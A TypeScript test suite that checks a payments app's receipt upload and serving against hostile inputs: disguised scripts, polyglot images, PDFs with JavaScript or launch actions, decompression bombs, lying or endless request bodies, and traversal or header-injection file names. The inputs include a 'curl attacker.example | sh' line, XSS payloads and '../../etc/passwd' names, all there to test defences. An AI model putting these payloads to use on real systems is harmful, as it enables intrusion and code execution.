/**
 * Receipt uploads and downloads under attack (RULES §7, docs/decisions/010-receipt-content-checks.md):
 * files that are something else than they claim, files that are two things at once, pictures that
 * would exhaust a viewer, lying and endless request bodies, hostile file names, upload floods, and
 * what the served file's headers allow. Everything goes through real requests; the streaming cases
 * through a listening server, so that bytes really flow over a socket.
 */
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { Readable } from 'node:stream';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { groupAnswer } from '../../contract/groups.ts';
import { authMessages } from '../../contract/accounts.ts';
import { client, createTestContext, multipartBody, sampleFiles, signInAdmin, signUpMember, type TestContext } from '../test/test-app.ts';
import { showsSamePicture } from '../test/pictures.ts';

const WRONG_TYPE = 'Please upload a JPG, PNG, or PDF file';
const TOO_LARGE = 'Please upload a file smaller than 5MB';
const STORED_NAME = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\.(jpg|png|pdf)$/;
const SERVED_NAME = /^(inline|attachment); filename="receipt-[0-9a-f]{8}\.(jpg|png|pdf)"$/;

type Upload = { name: string; type: string; data: Buffer };

// ---------------------------------------------------------------------------------------------
// Files, built byte by byte.

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) crc = CRC_TABLE[(crc ^ byte) & 0xff] ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** The sample PNG's chunks with another declared size (the image data stays one pixel). */
function pngDeclaring(width: number, height: number): Buffer {
  const header = Buffer.from(sampleFiles.png.subarray(16, 29));
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  const idat = sampleFiles.png.subarray(33, sampleFiles.png.length - 12);
  return Buffer.concat([sampleFiles.png.subarray(0, 8), pngChunk('IHDR', header), idat, pngChunk('IEND', Buffer.alloc(0))]);
}

/** The sample JPEG with another size in its frame header. */
function jpegDeclaring(width: number, height: number): Buffer {
  const jpeg = Buffer.from(sampleFiles.jpg);
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(height, frame + 5);
  jpeg.writeUInt16BE(width, frame + 7);
  return jpeg;
}

/** A JPEG as cameras write it: an EXIF segment carrying a whole thumbnail JPEG, end marker included. */
function jpegWithExifThumbnail(): Buffer {
  const payload = Buffer.concat([Buffer.from('Exif\0\0MM\0*\0\0\0\x08', 'latin1'), Buffer.alloc(16), sampleFiles.jpg]);
  const length = Buffer.alloc(2);
  length.writeUInt16BE(payload.length + 2);
  return Buffer.concat([sampleFiles.jpg.subarray(0, 2), Buffer.from([0xff, 0xe1]), length, payload, sampleFiles.jpg.subarray(2)]);
}

/** A one-entry ZIP archive (stored, not compressed) holding a web page. */
function zipWithPage(): Buffer {
  const name = Buffer.from('index.html');
  const content = Buffer.from('<html><script>alert(document.domain)</script></html>');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc32(content), 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc32(content), 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(local.length + name.length + content.length, 16);
  return Buffer.concat([local, name, content, central, name, end]);
}

/** A PDF whose catalogue (object 1) carries the given entries, with a page and a trailer. */
function pdfWith(catalogEntries: string, extraObjects = ''): Buffer {
  return Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalogEntries} >>\nendobj\n` +
      `2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n` +
      `${extraObjects}trailer\n<< /Root 1 0 R >>\n%%EOF\n`,
    'latin1',
  );
}

const files = {
  htmlScript: Buffer.from('<!doctype html><script>fetch("/api/auth/me")</script>'),
  shellScript: Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n'),
  windowsProgram: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.from('This program cannot be run in DOS mode.')]),
  svg: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>'),
  xmlSvg: Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  /** A page that starts with the JPEG signature, hoping that only three bytes are looked at. */
  htmlBehindJpegSignature: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('<html><script>alert(1)</script></html>')]),
};

// ---------------------------------------------------------------------------------------------
// The application, with a short stall limit so that a stalled upload is given up within the test.

let ctx: TestContext;
let api: ReturnType<typeof client>;
let admin: Awaited<ReturnType<typeof signInAdmin>>;
let bankAccountId: string;
let port: number;
const STALL_MS = 1_000;

beforeAll(async () => {
  ctx = await createTestContext({ receiptUploadLimits: { perUser: 10_000, windowMs: 60_000, stallMs: STALL_MS } });
  api = client(ctx);
  admin = await signInAdmin(ctx);
  bankAccountId = await newBankAccount(ctx, admin.token);
  await ctx.app.listen({ port: 0, host: '127.0.0.1' });
  port = (ctx.app.server.address() as AddressInfo).port;
});
afterAll(() => ctx.close());

async function newBankAccount(context: TestContext, token: string): Promise<string> {
  const res = await client(context).post('/api/bank-accounts', { accountName: 'Committee', accountNumber: '0123456789', bankName: 'HBL', accountType: 'Current', isDefault: true }, token);
  expect(res.status).toBe(201);
  return res.body.bankAccount.id;
}

let planCounter = 0;
async function newPlan(context: TestContext = ctx, token = admin.token): Promise<string> {
  planCounter++;
  const res = await client(context).post('/api/committee-plans', { name: `Hostile ${planCounter}`, monthlyAmount: 5000, duration: 3, totalAmount: 15000, maxMembers: 10 }, token);
  expect(res.status).toBe(201);
  return res.body.plan.id;
}

function send(context: TestContext, method: 'POST', url: string, token: string, fields: Record<string, string>, file?: Upload) {
  const body = multipartBody(fields, file);
  return context.app.inject({ method, url, payload: body.payload, headers: { ...body.headers, authorization: `Bearer ${token}` } });
}

/** POST /api/payments/subscribe for a new plan. */
async function subscribe(token: string, file?: Upload, fields: Record<string, string> = {}) {
  return send(ctx, 'POST', '/api/payments/subscribe', token, { planId: await newPlan(), amount: '5000', bankAccountId, ...fields }, file);
}

const receiptsDir = () => path.join(ctx.config.dataDir, 'receipts');
const storedFiles = () => fs.readdirSync(receiptsDir()).sort();

async function paymentRowsOf(userId: string): Promise<number> {
  const { rows } = await ctx.db.query<{ n: number }>('SELECT count(*)::int AS n FROM payments WHERE user_id = $1', [userId]);
  return rows[0].n;
}

async function receiptRowsOf(userId: string): Promise<number> {
  const { rows } = await ctx.db.query<{ n: number }>('SELECT count(*)::int AS n FROM receipts WHERE owner_id = $1', [userId]);
  return rows[0].n;
}

/** Every log line of a 5xx answer or of an error the server did not expect. */
const serverFailures = () => ctx.logLines.filter((line) => /"statusCode":5\d\d/.test(line) || line.includes('"msg":"request failed"'));

/** Uploading `file` to a new plan is refused with 415 and the specification's message, and leaves nothing behind. */
async function expectRefused(file: Upload) {
  const member = await signUpMember(ctx);
  const before = storedFiles();
  const res = await subscribe(member.token, file);
  expect(res.statusCode).toBe(415);
  expect(res.json()).toMatchObject({ success: false, message: WRONG_TYPE, errors: { receipt: WRONG_TYPE } });
  expect(storedFiles()).toEqual(before);
  expect(await paymentRowsOf(member.user.id)).toBe(0);
  expect(await receiptRowsOf(member.user.id)).toBe(0);
}

async function expectAccepted(file: Upload) {
  const member = await signUpMember(ctx);
  const res = await subscribe(member.token, file);
  expect(res.statusCode, res.body).toBe(201);
  return res.json().payment as { id: string; receiptImage: string; receiptName: string; receiptType: string };
}

// ---------------------------------------------------------------------------------------------

describe('files that are not receipts at all', () => {
  it.each([
    ['a web page with a script', files.htmlScript],
    ['a shell script', files.shellScript],
    ['a Windows program (MZ)', files.windowsProgram],
    ['a web page behind the three bytes of a JPEG signature', files.htmlBehindJpegSignature],
  ])('refuses %s renamed .jpg and sent as image/jpeg', async (_, data) => {
    await expectRefused({ name: 'receipt.jpg', type: 'image/jpeg', data });
  });

  it.each([
    ['an SVG with a script, named .png', { name: 'receipt.png', type: 'image/png', data: files.svg }],
    ['an SVG with an onload handler, named .jpg', { name: 'scan.jpg', type: 'image/jpeg', data: files.xmlSvg }],
    ['an SVG sent as image/svg+xml', { name: 'receipt.svg', type: 'image/svg+xml', data: files.svg }],
    ['an HTML page named .jpeg', { name: 'receipt.jpeg', type: 'image/jpeg', data: files.htmlScript }],
    ['an HTML page named .pdf', { name: 'receipt.pdf', type: 'application/pdf', data: files.htmlScript }],
  ])('refuses %s', async (_, file) => {
    await expectRefused(file);
  });

  it('refuses them on every upload route: the two-step upload and the instalment receipt too', async () => {
    const member = await signUpMember(ctx);
    const open = await api.post('/api/plan-payments', { planId: await newPlan(), amount: 5000 }, member.token);
    expect(open.status).toBe(201);
    const before = storedFiles();
    for (const data of [files.shellScript, Buffer.concat([sampleFiles.jpg, zipWithPage()])]) {
      const upload = await send(ctx, 'POST', `/api/plan-payments/${open.body.payment.id}/upload-receipt`, member.token, {}, { name: 'r.jpg', type: 'image/jpeg', data });
      expect(upload.statusCode).toBe(415);
      expect(upload.json().message).toBe(WRONG_TYPE);
    }
    expect((await api.get(`/api/plan-payments/${open.body.payment.id}`, member.token)).body.payment.hasReceipt).toBe(false);

    const inGroup = await memberInGroup();
    const fields = { groupId: inGroup.groupId, amount: '5000', month: '2', year: '2026', bankAccountId };
    for (const data of [files.windowsProgram, Buffer.concat([sampleFiles.png, sampleFiles.pdf])]) {
      const pay = await send(ctx, 'POST', '/api/payments', inGroup.token, fields, { name: 'r.png', type: 'image/png', data });
      expect(pay.statusCode).toBe(415);
      expect(pay.json().message).toBe(WRONG_TYPE);
    }
    const { rows } = await ctx.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM payments WHERE user_id = $1 AND under_review`, [inGroup.userId]);
    expect(rows[0].n).toBe(0);
    // The approved subscription's receipt is the only new file.
    expect(storedFiles().filter((name) => !before.includes(name))).toHaveLength(1);
  });
});

/** A member approved into a group that started in January 2026, with the subscription's receipt stored. */
async function memberInGroup() {
  const planId = await newPlan();
  const group = await api.post('/api/admin/groups/create', { planId, groupName: 'Hostile group', maxMembers: 10, startDate: '2026-01-01' }, admin.token, { answer: groupAnswer });
  expect(group.status).toBe(201);
  const member = await signUpMember(ctx);
  const sub = await send(ctx, 'POST', '/api/payments/subscribe', member.token, { planId, amount: '5000', bankAccountId }, { name: 'r.png', type: 'image/png', data: sampleFiles.png });
  expect(sub.statusCode).toBe(201);
  expect((await api.put(`/api/plan-payments/${sub.json().payment.id}/approve`, { groupId: group.body.group.id }, admin.token)).status).toBe(200);
  return { token: member.token, userId: member.user.id, groupId: group.body.group.id };
}

describe('pictures with something else glued on (polyglots)', () => {
  it.each([
    ['a JPEG followed by a ZIP archive', Buffer.concat([sampleFiles.jpg, zipWithPage()])],
    ['a JPEG followed by a PDF', Buffer.concat([sampleFiles.jpg, sampleFiles.pdf])],
    ['a JPEG followed by a web page', Buffer.concat([sampleFiles.jpg, files.htmlScript])],
    ['a "motion photo": a JPEG followed by a video', Buffer.concat([sampleFiles.jpg, Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1'), Buffer.alloc(64, 7)])],
    ['a JPEG followed by a ZIP after some zero padding', Buffer.concat([sampleFiles.jpg, Buffer.alloc(32), zipWithPage()])],
  ])('refuses %s', async (_, data) => {
    await expectRefused({ name: 'receipt.jpg', type: 'image/jpeg', data });
  });

  it.each([
    ['a PNG followed by a ZIP archive', Buffer.concat([sampleFiles.png, zipWithPage()])],
    ['a PNG followed by a PDF', Buffer.concat([sampleFiles.png, sampleFiles.pdf])],
    ['a PNG followed by a shell script', Buffer.concat([sampleFiles.png, files.shellScript])],
  ])('refuses %s', async (_, data) => {
    await expectRefused({ name: 'receipt.png', type: 'image/png', data });
  });

  it.each([
    ['a JPEG cut off before its end marker', sampleFiles.jpg.subarray(0, sampleFiles.jpg.length - 2)],
    ['a JPEG signature and nothing else', sampleFiles.jpg.subarray(0, 3)],
    ['a JPEG whose segment claims more bytes than the file has', Buffer.concat([sampleFiles.jpg.subarray(0, 2), Buffer.from([0xff, 0xe1, 0xff, 0xff]), Buffer.alloc(20)])],
    ['a PNG cut off before IEND', sampleFiles.png.subarray(0, sampleFiles.png.length - 12)],
    ['a PNG signature and nothing else', sampleFiles.png.subarray(0, 8)],
  ])('refuses a broken picture: %s', async (_, data) => {
    await expectRefused({ name: 'receipt.png', type: 'image/png', data });
  });

  it('accepts pictures as real tools write them: EXIF thumbnails inside, zero or newline padding after', async () => {
    const withThumbnail = jpegWithExifThumbnail();
    // The thumbnail's own end marker comes long before the picture's: only walking the segments tells them apart.
    expect(withThumbnail.indexOf(Buffer.from([0xff, 0xd9]))).toBeLessThan(withThumbnail.length - 2);
    for (const [data, type] of [
      [withThumbnail, 'image/jpeg'],
      [Buffer.concat([sampleFiles.jpg, Buffer.alloc(512)]), 'image/jpeg'],
      [Buffer.concat([sampleFiles.png, Buffer.from('\r\n')]), 'image/png'],
    ] as const) {
      const payment = await expectAccepted({ name: 'receipt', type, data });
      expect(payment.receiptType).toBe(type);
    }
  });
});

describe('PDFs that act instead of showing', () => {
  it.each([
    ['JavaScript run on opening (/OpenAction)', pdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    ['document-level JavaScript (/Names)', pdfWith('/Names << /JavaScript 4 0 R >>', '4 0 obj\n<< /Names [(x) << /S /JavaScript /JS (this.exportDataObject()) >>] >>\nendobj\n')],
    ['a /JS key alone', pdfWith('/OpenAction 4 0 R', '4 0 obj\n<< /JS 5 0 R >>\nendobj\n')],
    ['a program started on opening (/Launch)', pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['an embedded file (/EmbeddedFile)', pdfWith('', '4 0 obj\n<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\0\0\nendstream\nendobj\n')],
    ['an attachment list (/EmbeddedFiles)', pdfWith('/Names << /EmbeddedFiles 4 0 R >>')],
    ['automatic actions on a page (/AA)', pdfWith('/AA << /O << /S /URI /URI (http://attacker.example) >> >>')],
    ['a form that sends data away (/SubmitForm)', pdfWith('/OpenAction << /S /SubmitForm /F (http://attacker.example) >>')],
    ['a script-capable form (/XFA)', pdfWith('/AcroForm << /XFA 4 0 R >>')],
    ['/JavaScript spelled with a #xx escape', pdfWith('/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>')],
    ['/JS spelled entirely in escapes', pdfWith('/OpenAction 4 0 R', '4 0 obj\n<< /#4A#53 (app.alert(1)) >>\nendobj\n')],
    ['/Launch spelled with escapes and another case', pdfWith('/OpenAction << /S /#4cAUNCH /F (calc) >>')],
    ['/JavaScript written inside a stream that claims to be compressed', pdfWith('', '4 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /N 1 /First 4 /Length 40 >>\nstream\n5 0 << /S /JavaScript /JS (app.alert(1)) >>\nendstream\nendobj\n')],
    ['/JS inside an unencoded object stream', pdfWith('', '4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length 30 >>\nstream\n5 0 << /JS (app.alert(1)) >>\nendstream\nendobj\n')],
  ])('refuses a PDF with %s', async (_, data) => {
    await expectRefused({ name: 'statement.pdf', type: 'application/pdf', data });
  });

  it('accepts an ordinary statement: a plain page action, a link, compressed bytes that happen to spell /JS', async () => {
    const compressed = Buffer.concat([Buffer.alloc(100, 0x9c), Buffer.from('/JS\n/AA '), Buffer.alloc(100, 0x78)]);
    const data = Buffer.concat([
      pdfWith(
        '/OpenAction [3 0 R /FitH 792]',
        '4 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://bank.example/js/receipt/aa/) >> >>\nendobj\n',
      ),
      Buffer.from('5 0 obj\n<< /Length 216 /Filter /FlateDecode >>\nstream\n'),
      compressed,
      Buffer.from('\nendstream\nendobj\n%%EOF\n'),
    ]);
    const payment = await expectAccepted({ name: 'statement.pdf', type: 'application/pdf', data });
    expect(payment.receiptType).toBe('application/pdf');
  });
});

describe('pictures that would exhaust whoever opens them (decompression bombs)', () => {
  it.each([
    ['a PNG declaring 100 000 × 100 000 pixels', pngDeclaring(100_000, 100_000), 'image/png'],
    ['a PNG declaring 20 001 pixels on one side', pngDeclaring(20_001, 10), 'image/png'],
    ['a PNG declaring 8 000 × 8 000 pixels (64 MP)', pngDeclaring(8_000, 8_000), 'image/png'],
    ['a PNG declaring no width', pngDeclaring(0, 10), 'image/png'],
    ['a JPEG declaring 65 535 × 65 535 pixels', jpegDeclaring(65_535, 65_535), 'image/jpeg'],
    ['a JPEG declaring 60 000 × 100 pixels', jpegDeclaring(60_000, 100), 'image/jpeg'],
    ['a JPEG declaring its height later (0 in the frame header)', jpegDeclaring(100, 0), 'image/jpeg'],
  ])('refuses %s', async (_, data, type) => {
    // Each is a few hundred bytes: only the declared size gives it away.
    expect(data.length).toBeLessThan(1_000);
    await expectRefused({ name: 'receipt', type, data });
  });

  it('accepts the sizes receipts come in: a 48 MP photo, a long scrolling screenshot', async () => {
    await expectAccepted({ name: 'photo.jpg', type: 'image/jpeg', data: jpegDeclaring(8_000, 6_000) });
    await expectAccepted({ name: 'scroll.png', type: 'image/png', data: pngDeclaring(1_080, 20_000) });
  });
});

// ---------------------------------------------------------------------------------------------
// Over a socket.

type Exchange = { statuses: number[]; text: string; closedByServer: boolean; timedOut: boolean };

/** Writes raw bytes on a new connection and reads until the server closes it or the time is up. */
function rawExchange(bytes: Buffer, options: { halfClose?: boolean; timeoutMs?: number } = {}): Promise<Exchange> {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1');
    let text = '';
    let done = false;
    const finish = (closedByServer: boolean, timedOut: boolean) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      resolve({ statuses: [...text.matchAll(/HTTP\/1\.1 (\d{3})/g)].map((m) => Number(m[1])), text, closedByServer, timedOut });
    };
    const timer = setTimeout(() => finish(false, true), options.timeoutMs ?? 10_000);
    socket.on('data', (chunk) => (text += chunk.toString('latin1')));
    socket.on('end', () => finish(true, false));
    socket.on('close', () => finish(true, false));
    socket.on('error', () => finish(true, false));
    socket.write(bytes, () => {
      if (options.halfClose) socket.end();
    });
  });
}

function rawRequest(head: string, body: Buffer): Buffer {
  return Buffer.concat([Buffer.from(head.replace(/\n/g, '\r\n') + '\r\n'), body]);
}

async function serverStillAnswers() {
  const res = await fetch(`http://127.0.0.1:${port}/api/health`);
  expect(res.status).toBe(200);
}

describe('a Content-Length that lies', () => {
  function uploadHead(declared: number, boundaryHeaders: Record<string, string>, token: string) {
    return (
      `POST /api/payments/subscribe HTTP/1.1\nHost: 127.0.0.1\nAuthorization: Bearer ${token}\n` +
      `Content-Type: ${boundaryHeaders['content-type']}\nContent-Length: ${declared}\n`
    );
  }

  it('declaring fewer bytes than sent: a 4xx answer, never a 5xx, and the server goes on', async () => {
    const member = await signUpMember(ctx);
    const form = multipartBody({ planId: await newPlan(), amount: '5000', bankAccountId }, { name: 'r.png', type: 'image/png', data: sampleFiles.png });
    const before = storedFiles();
    const result = await rawExchange(rawRequest(uploadHead(60, form.headers, member.token), form.payload));
    expect(result.timedOut).toBe(false);
    expect(result.statuses.length).toBeGreaterThan(0);
    for (const status of result.statuses) expect(status >= 400 && status < 500, `status ${status}`).toBe(true);
    expect(storedFiles()).toEqual(before);
    expect(await paymentRowsOf(member.user.id)).toBe(0);
    await serverStillAnswers();
  });

  it('declaring more bytes than sent, then waiting: given up after the stall limit with a 4xx, connection closed', async () => {
    const member = await signUpMember(ctx);
    const form = multipartBody({ planId: await newPlan(), amount: '5000', bankAccountId }, { name: 'r.png', type: 'image/png', data: sampleFiles.png });
    const started = Date.now();
    const result = await rawExchange(rawRequest(uploadHead(form.payload.length + 100_000, form.headers, member.token), form.payload));
    expect(result.timedOut).toBe(false);
    expect(result.statuses).toEqual([408]);
    expect(result.text).toMatch(/connection: close/i);
    expect(result.closedByServer).toBe(true);
    expect(Date.now() - started).toBeGreaterThanOrEqual(STALL_MS - 100);
    expect(await paymentRowsOf(member.user.id)).toBe(0);
    await serverStillAnswers();
  });

  it('declaring more bytes than sent, then closing: no answer can be sent, nothing is stored, the server goes on', async () => {
    const member = await signUpMember(ctx);
    const form = multipartBody({ planId: await newPlan(), amount: '5000', bankAccountId }, { name: 'r.png', type: 'image/png', data: sampleFiles.png });
    const before = storedFiles();
    const result = await rawExchange(rawRequest(uploadHead(form.payload.length + 100_000, form.headers, member.token), form.payload), { halfClose: true });
    expect(result.timedOut).toBe(false);
    for (const status of result.statuses) expect(status).toBeLessThan(500);
    expect(storedFiles()).toEqual(before);
    expect(await paymentRowsOf(member.user.id)).toBe(0);
    await serverStillAnswers();
    expect(serverFailures()).toEqual([]);
  });
});

type StreamResult = { status?: number; body: string; headers: http.IncomingHttpHeaders; bytesProduced: number; errored: boolean; timedOut: boolean; rssGrowth: number };

/**
 * Streams a multipart upload of `total` bytes made lazily from one small chunk (nothing near the
 * total is ever allocated), with or without a Content-Length, and watches this process's memory,
 * which is the server's too.
 */
const STREAM_BOUNDARY = 'hostile-stream-boundary';

function streamUpload(token: string, options: { total: number; declareLength: boolean; fileStart: Buffer }): Promise<StreamResult> {
  const boundary = STREAM_BOUNDARY;
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="receipt"; filename="huge.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
  );
  const chunk = Buffer.alloc(64 * 1024, 0x5a);
  return new Promise((resolve) => {
    let produced = 0;
    const body = new Readable({
      read() {
        if (produced === 0) {
          const first = Buffer.concat([head, options.fileStart]);
          produced += first.length;
          this.push(first);
          return;
        }
        const size = Math.min(chunk.length, options.total - produced);
        if (size <= 0) return void this.push(null);
        produced += size;
        this.push(size === chunk.length ? chunk : chunk.subarray(0, size));
      },
    });
    const baseline = process.memoryUsage().rss;
    let peak = baseline;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 10);
    const result: StreamResult = { body: '', headers: {}, bytesProduced: 0, errored: false, timedOut: false, rssGrowth: 0 };
    let settled = false;
    const settle = () => {
      if (settled) return;
      settled = true;
      clearInterval(sampler);
      clearTimeout(timer);
      body.unpipe();
      body.destroy();
      request.destroy();
      agent.destroy();
      result.bytesProduced = produced;
      result.rssGrowth = peak - baseline;
      resolve(result);
    };
    const timer = setTimeout(() => {
      result.timedOut = true;
      settle();
    }, 25_000);
    const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
    const request = http.request({
      host: '127.0.0.1',
      port,
      method: 'POST',
      path: '/api/payments/subscribe',
      // Keep-alive, as browsers ask: the server has to be the one that ends the connection.
      agent,
      headers: {
        authorization: `Bearer ${token}`,
        'content-type': `multipart/form-data; boundary=${boundary}`,
        ...(options.declareLength ? { 'content-length': String(options.total) } : { 'transfer-encoding': 'chunked' }),
      },
    });
    // Done once the answer has been read and the server has cut the connection: from then on the
    // client cannot send another byte, so `produced` is all the server let in.
    let answered = false;
    let cut = false;
    const maybeSettle = () => {
      if (answered && cut) settle();
    };
    request.on('response', (response) => {
      result.status = response.statusCode;
      result.headers = response.headers;
      response.on('data', (data: Buffer) => (result.body += data.toString()));
      response.on('end', () => ((answered = true), maybeSettle()));
    });
    request.on('error', () => (result.errored = true));
    request.on('socket', (socket) => {
      socket.on('close', () => {
        cut = true;
        // An answer still on its way when the connection is reset may be lost: give it a moment.
        if (result.status === undefined) setTimeout(settle, 200);
        maybeSettle();
      });
    });
    body.pipe(request);
  });
}

describe('an endless upload (2 GB, made lazily)', () => {
  const TWO_GB = 2 * 1024 ** 3;

  it.each([
    ['with a Content-Length of 2 GB', true],
    ['chunked, without a Content-Length', false],
  ])('is refused %s as soon as the limit is passed, without buffering it', async (_, declareLength) => {
    const member = await signUpMember(ctx);
    const before = storedFiles();
    const result = await streamUpload(member.token, { total: TWO_GB, declareLength, fileStart: sampleFiles.jpg.subarray(0, 20) });
    expect(result.timedOut).toBe(false);
    // Either the answer arrives, or the connection is cut after it: never a 5xx, never the whole upload.
    if (result.status !== undefined) {
      expect(result.status).toBe(413);
      expect(JSON.parse(result.body).message).toBe(TOO_LARGE);
      expect(result.headers.connection).toBe('close');
    } else {
      expect(result.errored).toBe(true);
    }
    expect(result.bytesProduced).toBeLessThan(50 * 1024 * 1024);
    expect(result.rssGrowth).toBeLessThan(100 * 1024 * 1024);
    expect(storedFiles()).toEqual(before);
    expect(await paymentRowsOf(member.user.id)).toBe(0);
    await serverStillAnswers();
  });

  it('is refused when the endless part comes after a complete, valid form', async () => {
    const member = await signUpMember(ctx);
    const before = storedFiles();
    const completeForm = Buffer.concat([sampleFiles.png, Buffer.from(`\r\n--${STREAM_BOUNDARY}--\r\n`)]);
    const result = await streamUpload(member.token, { total: TWO_GB, declareLength: false, fileStart: completeForm });
    expect(result.timedOut).toBe(false);
    if (result.status !== undefined) {
      expect(result.status).toBe(413);
      expect(JSON.parse(result.body).message).toBe(TOO_LARGE);
    } else {
      expect(result.errored).toBe(true);
    }
    expect(result.bytesProduced).toBeLessThan(50 * 1024 * 1024);
    expect(storedFiles()).toEqual(before);
    expect(await paymentRowsOf(member.user.id)).toBe(0);
  });

  it('is refused at the first bytes when they are no receipt, without reading the rest', async () => {
    const member = await signUpMember(ctx);
    const result = await streamUpload(member.token, { total: TWO_GB, declareLength: false, fileStart: files.windowsProgram });
    expect(result.timedOut).toBe(false);
    if (result.status !== undefined) {
      expect(result.status).toBe(415);
      expect(JSON.parse(result.body).message).toBe(WRONG_TYPE);
    } else {
      expect(result.errored).toBe(true);
    }
    expect(result.bytesProduced).toBeLessThan(50 * 1024 * 1024);
    await serverStillAnswers();
    expect(serverFailures()).toEqual([]);
  });
});

describe('hostile file names', () => {
  const names = [
    '../../etc/passwd.jpg',
    '..\\..\\x.png',
    '/etc/absolute.png',
    'C:\\Windows\\System32\\x.png',
    'nul\u0000byte.png',
    `${'a'.repeat(1000)}.png`,
    'a"\r\nX-Injected: 1.jpg',
    'b%0d%0aX-Injected:%201.png',
    '\u202egnp.exe',
    '<img src=x onerror=alert(1)>.png',
  ];

  it.each(names)('stores %j only under a random name inside the receipts folder, and serves it without the name', async (name) => {
    const dataBefore = fs.readdirSync(ctx.config.dataDir).sort();
    const member = await signUpMember(ctx);
    const res = await subscribe(member.token, { name, type: 'image/png', data: sampleFiles.png });
    expect(res.statusCode).toBeLessThan(500);
    expect(fs.readdirSync(ctx.config.dataDir).sort()).toEqual(dataBefore);
    for (const file of storedFiles()) expect(file).toMatch(STORED_NAME);
    for (const escape of ['../../etc/passwd.jpg', '../../x.png', '../x.png', 'etc/passwd.jpg']) {
      expect(fs.existsSync(path.resolve(receiptsDir(), escape))).toBe(false);
    }
    if (res.statusCode !== 201) return;

    const payment = res.json().payment;
    // The name is kept as data only: no folders, no control or direction characters, bounded.
    expect(payment.receiptName).not.toMatch(/[\\/\u0000-\u001f\u007f\u202e"<>]/);
    expect(payment.receiptName.length).toBeLessThanOrEqual(200);
    const file = await ctx.app.inject({ method: 'GET', url: payment.receiptImage });
    expect(file.statusCode).toBe(200);
    expect(file.headers['x-injected']).toBeUndefined();
    expect(file.headers['content-disposition']).toMatch(SERVED_NAME);
    const headerText = JSON.stringify(file.headers);
    expect(headerText).not.toContain('Injected');
    expect(headerText).not.toContain('passwd');
    expect(headerText).not.toContain('aaaaaaaaaa');
  });

  it('keeps a name in Urdu as the member wrote it', async () => {
    const payment = await expectAccepted({ name: 'رسید بینک.png', type: 'image/png', data: sampleFiles.png });
    expect(payment.receiptName).toBe('رسید بینک.png');
  });

  it('refuses text the database cannot keep in a form field with a 4xx, not a failed query', async () => {
    const member = await signUpMember(ctx);
    const res = await subscribe(member.token, { name: 'r.png', type: 'image/png', data: sampleFiles.png }, { description: 'paid\u0000today' });
    expect(res.statusCode).toBeGreaterThanOrEqual(400);
    expect(res.statusCode).toBeLessThan(500);
    expect(await paymentRowsOf(member.user.id)).toBe(0);
  });
});

describe('serving a stored receipt', () => {
  const kinds = [
    // Each uploaded under a hostile name and declared type: the bytes decide what is served.
    ['a PNG sent as text/html', { name: 'page.html', type: 'text/html', data: sampleFiles.png }, 'image/png', 'inline'],
    ['a JPEG sent as image/svg+xml', { name: 'x.svg', type: 'image/svg+xml', data: sampleFiles.jpg }, 'image/jpeg', 'inline'],
    ['a PDF sent as application/xhtml+xml', { name: 'x.xhtml', type: 'application/xhtml+xml', data: sampleFiles.pdf }, 'application/pdf', 'attachment'],
  ] as const;

